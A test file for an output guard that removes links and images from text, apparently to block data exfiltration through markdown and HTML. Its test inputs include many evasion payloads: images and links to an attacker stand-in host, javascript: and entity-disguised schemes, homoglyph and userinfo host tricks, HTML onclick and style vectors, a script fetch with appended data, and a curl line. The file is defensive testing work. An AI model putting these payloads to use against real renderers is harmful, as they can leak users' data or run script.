import { answer, cutsThatDiffer, everyCut, guardsOf, inPiecesOf, outcome } from './answers';

const guards = guardsOf();
const release = (text: string): string => answer(guards, [text]).text;

test.each([
  ['an image', 'a ![x](https://evil.test/i?q=1) b', 'a [image removed] b'],
  ['an image with brackets in its description', '![a [b] c](https://evil.test/i)', '[image removed]'],
  ['an image in a link', '[![a](https://evil.test/i)](https://evil.test/l)', '[[image removed]] [link removed]'],
  ['a link with a title', '[x](https://evil.test/i "title (one)") y', '[x] [link removed] y'],
  ['a link with parentheses', '[x](https://evil.test/a_(b)) y', '[x] [link removed] y'],
  ['a link over several lines', '[x](\nhttps://evil.test/\n) y', '[x] [link removed] y'],
  ['a link in angle brackets', '[x](<https://evil.test/a b>) y', '[x] [link removed] y'],
  ['a link that is never closed', '[x](https://evil.test/a', '[x] [link removed]'],
  ['a reference', '[x][r]\n\n[r]: https://evil.test/a "t"', '[x][r]\n\n[r]: [link removed] "t"'],
  ['a reference on the next line', '[r]:\n  <https://evil.test/a>', '[r]:\n  [link removed]'],
  ['a reference without a scheme', '[r]: //evil.test/a', '[r]: [link removed]'],
  ['an autolink', '<https://evil.test/?q> x', '[link removed] x'],
  ['a mail link', '<mailto:eve@evil.test?body=x>', '[link removed]'],
  ['a bare URL at the end of a sentence', 'See https://evil.test/a?b=c.', 'See [link removed].'],
  ['a bare URL in parentheses', '(https://evil.test/a)', '([link removed])'],
  ['a URL with www. only', 'at www.evil.com today', 'at [link removed] today'],
  ['a host with a path only', 'at evil.com/?q=secret today', 'at [link removed] today'],
  ['a host with a port', 'at evil.com:8080/x today', 'at [link removed] today'],
  ['another scheme', 'slack://open?x=1 ftp://evil.test/x', '[link removed] [link removed]'],
  ['a URL in code', '```\ncurl https://evil.test/x\n```', '```\ncurl [link removed]\n```'],
  ['an HTML image', '<img src="https://evil.test/i">', '[image removed]'],
  ['an HTML image without quotes or blanks', '<img/src=//evil.test/i>', '[image removed]'],
  ['an HTML image set', '<img srcset="a.png 1x, https://evil.test/i 2x">', '[image removed]'],
  ['an HTML link', '<a href=\'https://evil.test/\'>text</a>', '[link removed]text</a>'],
  ['a `>` in an attribute', '<img alt=">" src="//evil.test/i">', '[image removed]'],
  ['a style sheet', '<div style="background:url(//evil.test/i)">x', '[link removed]x'],
  ['a script', '<b onclick="fetch(1)">x</b>', '[link removed]x</b>'],
  ['a string in a script', '<script>fetch("//evil.test/?"+x)</script>', '<script>fetch("[link removed]?"+x)</script>'],
  ['a line’s end in the scheme of an attribute', '<img src="ht\ntps://evil.test/i">', '[image removed]'],
  ['data', '![x](data:image/svg+xml,abc)', '[image removed]'],
  ['a script as a link', '[x](javascript:alert(1))', '[x] [link removed]'],
  ['a script as a link, disguised', '[x](java&#x0a;script&colon;alert(1))', '[x] [link removed]'],
  ['a link without a scheme', '[x](//evil.test/a)', '[x] [link removed]'],
  ['backslashes', '[x](\\\\evil.test/a) [y](/\\evil.test/a)', '[x] [link removed] [y] [link removed]'],
  ['an escaped colon', '[x](https\\://evil.test/a)', '[x] [link removed]'],
  ['entities', '[x](&#104;ttps&#58;//evil.test/a)', '[x] [link removed]'],
  ['entities in plain text', 'https&#58;//evil.test/a &#104;ttps://evil.test', '[link removed] [link removed]'],
  ['a user’s name that looks like a host', '[x](https://docs.example.com@evil.test/a)', '[x] [link removed]'],
  ['a password', 'https://docs.example.com:x@docs.example.com/', '[link removed]'],
  ['a host that begins like one of the list', 'https://docs.example.com.evil.test/', '[link removed]'],
  ['a host that ends like one of the list', 'https://evil-docs.example.com/', '[link removed]'],
  ['the parent of a wildcard', 'https://partner.example/', '[link removed]'],
  ['a host in another alphabet', 'https://dоcs.example.com/', '[link removed]'],
  ['an encoded host', '[x](https://%65vil.test/)', '[x] [link removed]'],
  ['an ideographic full stop', 'https://docs.example.com。evil.test/', '[link removed]'],
  ['an address as one number', '[x](http://2130706433/)', '[x] [link removed]'],
  ['a link behind a harmless one', '[x](/ok)(https://evil.test/)', '[x](/ok)([link removed])'],
  ['a URL in the query of a harmless one', 'https://docs.example.com/?u=https://evil.test/a', 'https://docs.example.com/?u=[link removed]'],
  ['a link whose text is a harmless URL', '[https://docs.example.com](https://evil.test)', '[https://docs.example.com] [link removed]'],
])('%s does not lead elsewhere', (_name, text, expected) => {
  expect(release(text)).toBe(expected);
  expect(cutsThatDiffer(guards, text, [[...text], ...everyCut(text)])).toEqual([]);
});

test.each([
  'https://docs.example.com/a?b=c#d, and <https://docs.example.com>.', '[x](https://docs.example.com/a_(b) "t") ![y](https://a.b.partner.example/i.png)', 'https://docs.example.com./x HTTPS://DOCS.EXAMPLE.COM/',
  '[x](/a/b?c#d) [y](#part) [z](page.html) ![i](images/i.png)', '<img src="/i.png" alt="x"> <a href="#top">up</a> <b class="x">bold</b> <br/>',
  'a < b, c > d, x<y, List<Map<String, Integer>>, std::vector<std::string> v; <T extends U>', 'if (a[i](b)) { c[d]: e } // a comment /* another */',
  'Note: this and that; 10:30, 3/4, and/or, 1.5/2, src/main.ts, C:\\1\\2.txt, ASP.NET/C#, node.js/x', 's3://bucket/key and postgres://host/db', 'R&D, AT&T, &amp; &lt;b&gt; &#39;x&#39;', 'wow! [1] see below ![not an image', '[r]: see below\n[s]: /relative',
  '<!-- a comment --> <?xml version="1.0"?> <EMAIL_ADDRESS> <soap:Body>', 'a `//` b // c "//" d \'\\\\n\'', 'x https:/ y http: z ://', 'Die Größe beträgt 3 m; 日本語のテキスト、https だけ。',
])('leaves %j as it is', (text) => {
  expect(release(text)).toBe(text);
  expect(cutsThatDiffer(guards, text, [[...text], ...everyCut(text)])).toEqual([]);
});

test('a link that is longer than any link is neutralised and the rest of it dropped, with bounded memory', () => {
  const url = `https://evil.test/${'x'.repeat(50_000)}`;
  for (const text of [`a ${url} b`, `a ![i](${url}) b`, `a [l](${url}) b`, `a <img src="${url}"> b`]) {
    const whole = answer(guardsOf({ secrets: 'allow', personalData: 'allow' }), [text]);
    expect(whole.text).toMatch(/^a (?:\[l\] )?\[(?:link|image) removed\][)>" ]{0,3} b$/);
    expect(outcome(answer(guardsOf({ secrets: 'allow', personalData: 'allow' }), inPiecesOf(997, text)))).toEqual(outcome(whole));
  }
});

test('a marker and what follows it never become a link together', () => {
  const denying = guardsOf({ denyList: ['hidden'] });
  for (const follows of ['(/logout)', '[ref]', ': /x']) expect(answer(denying, [`hidden${follows}`]).text).toBe(`[removed] ${follows}`);
});

test('links stay where the configuration lets them', () => {
  expect(answer(guardsOf({ links: 'allow' }), ['![x](https://evil.test/i)']).text).toBe('![x](https://evil.test/i)');
});

test('what was found is counted by kind', () => {
  expect(answer(guards, ['![x](//evil.test) [y](//evil.test) https://evil.test <https://evil.test> <img src=//e.test>']).verdicts).toEqual([
    { guard: 'links', action: 'changed', reasons: { image: 1, link: 1, url: 1, autolink: 1, html: 1 } },
  ]);
});
